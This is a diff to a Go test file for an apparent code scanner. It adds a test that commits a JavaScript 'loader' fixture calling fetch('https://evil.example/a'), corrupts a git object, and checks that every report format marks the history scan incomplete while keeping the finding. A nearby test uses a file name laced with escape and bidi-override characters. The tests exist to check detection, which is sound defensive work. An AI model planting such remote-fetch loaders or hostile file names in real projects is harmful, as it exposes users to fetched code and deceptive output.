@@ -11,6 +11,8 @@ import (
 	"strconv"
 	"strings"
 	"testing"
+
+	"github.com/go-git/go-git/v5/plumbing"
 )
 
 // TestNoCredentialInAnyOutput: a credential in a resource, in scanned code and in the value of
@@ -165,6 +167,48 @@ func TestHostileNameAndContent(t *testing.T) {
 		}
 		if format == "text" && !regexp.MustCompile(`(?m)^a\\x0ab\\x1b\[31m\\u202e\.js:1:\d+: note: declared-reference`).MatchString(stdout.String()) {
 			t.Errorf("text output does not show the escaped path on one line:\n%s", stdout.String())
+		}
+	}
+}
+
+// TestCorruptObjectIncomplete: a history scan that meets a corrupt object writes its report,
+// says in every format that it is incomplete, and exits 2 whatever it found (issue 12, item 3).
+func TestCorruptObjectIncomplete(t *testing.T) {
+	dir := t.TempDir()
+	t.Chdir(dir)
+	os.WriteFile("a.js", []byte("fetch('https://evil.example/a')\n"), 0o644)
+	if err := gitcommit([]string{"add loader"}); err != nil {
+		t.Fatal(err)
+	}
+	os.WriteFile("b.js", []byte("var x = 1;\n"), 0o644)
+	if err := gitcommit([]string{"add b"}); err != nil {
+		t.Fatal(err)
+	}
+	// b.js's blob, loose: keep the zlib header, zero the rest.
+	h := plumbing.ComputeHash(plumbing.BlobObject, []byte("var x = 1;\n")).String()
+	obj := filepath.Join(".git", "objects", h[:2], h[2:])
+	data, err := os.ReadFile(obj)
+	if err != nil {
+		t.Skipf("b.js's blob is not a loose object: %v", err)
+	}
+	for i := 2; i < len(data); i++ {
+		data[i] = 0
+	}
+	os.Chmod(obj, 0o644)
+	if err := os.WriteFile(obj, data, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	for _, format := range []string{"text", "json", "sarif", "github"} {
+		var stdout, stderr bytes.Buffer
+		code := run(context.Background(), []string{"scan", "--history", "--format", format, "-r", "evil.example", "."}, strings.NewReader(""), &stdout, &stderr)
+		if code != 2 {
+			t.Errorf("--format %s: exit %d, want 2 (stderr %s)", format, code, stderr.String())
+		}
+		if !strings.Contains(stdout.String(), "incomplete") || !strings.Contains(stderr.String(), "incomplete scan") {
+			t.Errorf("--format %s: the report or stderr does not say incomplete:\n%s\n%s", format, stdout.String(), stderr.String())
+		}
+		if !strings.Contains(stdout.String(), "evil.example") {
+			t.Errorf("--format %s: the report lost its findings:\n%s", format, stdout.String())
 		}
 	}
 }
